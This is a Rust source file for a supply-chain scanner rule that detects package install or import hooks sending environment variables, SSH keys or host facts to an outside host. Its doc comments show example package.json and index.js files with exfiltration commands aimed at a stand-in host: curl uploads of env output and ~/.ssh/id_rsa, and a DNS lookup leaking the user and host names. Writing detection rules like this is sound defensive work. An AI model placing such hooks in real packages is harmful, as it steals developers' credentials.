//! # A command line sends secrets or facts of the machine
//!
//! A command that runs at install or import sends variables, a secret file or facts of the machine away, or
//! looks up a name that is made of them.
//!
//! ## Why it matters
//!
//! One line of shell in a hook is the smallest thief there is, and it needs no file.
//!
//! ## Known benign uses
//!
//! Installers download. A header with a token for the host that issued it is no upload.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "env | base64 | curl -s -d @- https://collector.invalid/"}}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! require("child_process").exec("curl -F file=@$HOME/.ssh/id_rsa https://collector.invalid/"); //~ here
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "nslookup $(whoami).$(hostname).collector.invalid"}}
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -sL -H \"authorization: token $GITHUB_TOKEN\" https://downloads.x.example/x.tgz -o x.tgz", "notify": "env | curl -d @- https://collector.invalid/"}}
//! ```
//!
//! ## References
//!
//! - Birsan: Dependency Confusion (February 2021)

use crate::prelude::*;

/// A command line sends secrets or facts of the machine.
pub struct CommandSendsSecrets;

impl Rule for CommandSendsSecrets {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "command-sends-secrets",
            title: "A command line sends secrets or facts of the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1048",
            covers: &[
                "collect-env-dump",
                "collect-ssh-keys",
                "collect-host-recon",
                "exfil-http-post",
                "exfil-dns",
                "dependency-confusion",
            ],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for command in facts.unasked_commands() {
            let reads =
                command.behaviours.iter().any(|kind| matches!(kind, BehaviourKind::ReadsSecret { .. }));
            let sent = command.behaviours.iter().find_map(|kind| phrase(facts, kind, command.trigger));
            if let Some(phrase) = sent.or_else(|| {
                (reads && command.runs.iter().any(uploads)).then_some("reads secrets and uploads")
            }) {
                found.at(command.trigger, &command.locus, phrase);
            }
        }
    }
}

/// Whether a program is told to send something, wherever it was put together.
fn uploads(run: &Run) -> bool {
    const OPTIONS: [&str; 9] =
        ["-d", "--data", "--data-raw", "--data-binary", "-F", "--form", "-T", "--upload-file", "--post-data"];
    let Run::Program { name, arguments } = run else { return false };
    matches!(name.as_str(), "curl" | "wget")
        && arguments.iter().any(|argument| OPTIONS.contains(&argument.as_str()))
}

fn phrase(facts: &Facts<'_>, kind: &BehaviourKind, trigger: Trigger) -> Option<&'static str> {
    match kind {
        BehaviourKind::SendsEnvironment { names } if names.iter().any(|name| !facts.owns_variable(name)) => {
            Some("sends variables of the environment")
        }
        BehaviourKind::SendsFile { class: Some(_), .. } => Some("sends a file that holds secrets"),
        BehaviourKind::SendsByDns => Some("sends data of the machine in a DNS query"),
        BehaviourKind::SendsHostFacts if trigger == Trigger::Install => Some("sends facts of the machine"),
        _ => None,
    }
}
